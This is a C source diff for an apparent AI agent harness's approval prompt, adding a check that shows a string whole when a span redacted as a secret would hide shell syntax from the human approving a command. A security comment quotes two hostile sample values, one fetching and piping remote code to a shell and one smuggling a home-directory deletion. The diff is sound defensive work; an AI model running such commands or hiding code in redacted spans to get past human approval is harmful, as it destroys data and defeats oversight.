@@ -197,8 +197,76 @@ static const char *canonical_tool(const char *tool)
 	return !strcmp(tool, "run_shell_command") ? "bash" : tool;
 }
 
-/* Replace every string in v (an object or array, depth-bounded) with its
- * redacted form. */
+/* A character a shell acts on (or a blank: a secret is one word). */
+static bool shell_active(char c)
+{
+	return c == '\0' || strchr("$`;|&<>(){}\\'\" \t\n\r*?[]~!#", c) != NULL;
+}
+
+/* Does red, the redacted form of s, hide a character a shell acts on?
+ * Each run of [REDACTED] markers in red stands for a span of s; the text
+ * between markers is s's own and is found again, in order. Where the two
+ * cannot be lined up the answer is yes. */
+static bool hides_shell(const char *s, size_t n, const char *red, size_t rn)
+{
+	const size_t ml = strlen(MOAT_REDACTED);
+	size_t i = 0, j = 0;
+
+	while (j < rn) {
+		size_t k, e;
+		const char *at;
+
+		if (rn - j < ml || memcmp(red + j, MOAT_REDACTED, ml) ||
+		    (n - i >= ml && !memcmp(s + i, MOAT_REDACTED, ml))) {
+			if (i >= n || s[i] != red[j])
+				return true;
+			i++, j++;
+			continue;
+		}
+		/* the markers, then the literal text up to the next one */
+		for (k = j; rn - k >= ml && !memcmp(red + k, MOAT_REDACTED, ml); k += ml)
+			;
+		for (e = k; e < rn && (rn - e < ml || memcmp(red + e, MOAT_REDACTED, ml)); e++)
+			;
+		at = e == k ? s + n : memmem(s + i, n - i, red + k, e - k);
+		if (!at || at == s + i)
+			return true;
+		for (const char *c = s + i; c < at; c++)
+			if (shell_active(*c))
+				return true;
+		i = (size_t)(at - s);
+		j = k;
+	}
+	return i != n;
+}
+
+/* What the approver is shown of one string: its redacted form, unless a
+ * redacted span would hide shell syntax. SECURITY: an approval is only as
+ * good as what the human sees; a span redacted as a secret may hold code
+ * (`SECRET="$(curl x|sh)"`, `TOKEN=x;rm -rf ~`), and then the string is
+ * shown whole, secrets included: the human approving owns them, and the
+ * audit log still redacts them. */
+static int prompt_redact(const char *s, size_t len, struct moat_buf *out)
+{
+	struct moat_buf red = MOAT_BUF_INIT;
+	int r = moat_redact(s, len, &red);
+
+	if (r >= 0) {
+		if (red.len != len || memcmp(red.data ? red.data : "", s, len)) {
+			if (hides_shell(s, len, red.data ? red.data : "", red.len))
+				r = moat_buf_append(out, s, len);
+			else
+				r = moat_buf_append(out, red.data, red.len);
+		} else {
+			r = moat_buf_append(out, s, len);
+		}
+	}
+	moat_buf_release(&red);
+	return r;
+}
+
+/* Replace every string in v (an object or array, depth-bounded) with what
+ * the approver is shown of it (prompt_redact). */
 static int redact_tree(json_t *v, int depth)
 {
 	if (json_is_object(v)) {
@@ -209,7 +277,7 @@ static int redact_tree(json_t *v, int depth)
 			if (json_is_string(m)) {
 				struct moat_buf b = MOAT_BUF_INIT;
 
-				r = moat_redact(json_string_value(m), json_string_length(m), &b);
+				r = prompt_redact(json_string_value(m), json_string_length(m), &b);
 				if (r >= 0)
 					r = json_object_iter_set_new(
 					    v, it,
@@ -233,7 +301,7 @@ static int redact_tree(json_t *v, int depth)
 			if (json_is_string(m)) {
 				struct moat_buf b = MOAT_BUF_INIT;
 
-				r = moat_redact(json_string_value(m), json_string_length(m), &b);
+				r = prompt_redact(json_string_value(m), json_string_length(m), &b);
 				if (r >= 0)
 					r = json_array_set_new(
 					    v, i,
@@ -287,7 +355,7 @@ static char *summary_of(const char *tool, json_t *args)
 	}
 	if (!json_is_string(v))
 		return moat_strdup("");
-	if (moat_redact(json_string_value(v), json_string_length(v), &red) < 0) {
+	if (prompt_redact(json_string_value(v), json_string_length(v), &red) < 0) {
 		moat_buf_release(&red);
 		return NULL;
 	}
